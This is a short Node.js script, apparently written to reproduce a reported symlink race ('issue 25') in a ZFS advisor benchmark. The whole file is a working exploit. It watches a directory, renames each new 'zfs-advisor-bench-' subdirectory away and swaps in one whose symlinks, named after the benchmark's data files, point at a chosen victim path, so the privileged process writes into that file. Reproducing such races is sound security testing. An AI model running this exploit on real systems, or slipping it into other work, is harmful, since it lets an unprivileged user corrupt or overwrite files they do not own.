// The swap race of issue 25, played by an unprivileged user who owns WATCH: each new
// benchmark sub-directory is renamed away at once and replaced by the user's own directory
// holding symlinks named like the benchmark's files, pointing at VICTIM. Runs for MS
// milliseconds and prints how many swaps it made.
// Usage: node swap-attacker.mjs WATCH VICTIM MS
import { mkdirSync, readdirSync, renameSync, symlinkSync } from 'node:fs';
import process from 'node:process';

const [watch, victim, ms] = process.argv.slice(2);
const end = Date.now() + Number(ms);
const done = new Set();
let swaps = 0;
while (Date.now() < end) {
  let entries;
  try { entries = readdirSync(watch); } catch { break; }
  for (const e of entries) {
    if (!e.startsWith('zfs-advisor-bench-') || done.has(e)) continue;
    done.add(e);
    try {
      renameSync(`${watch}/${e}`, `${watch}/moved-${e}`);
      mkdirSync(`${watch}/${e}`);
      for (const f of ['zfs-advisor-bench.dat', 'odirect-probe.dat']) symlinkSync(victim, `${watch}/${e}/${f}`);
      swaps++;
    } catch { /* lost this one */ }
  }
}
process.stdout.write(`${swaps}\n`);
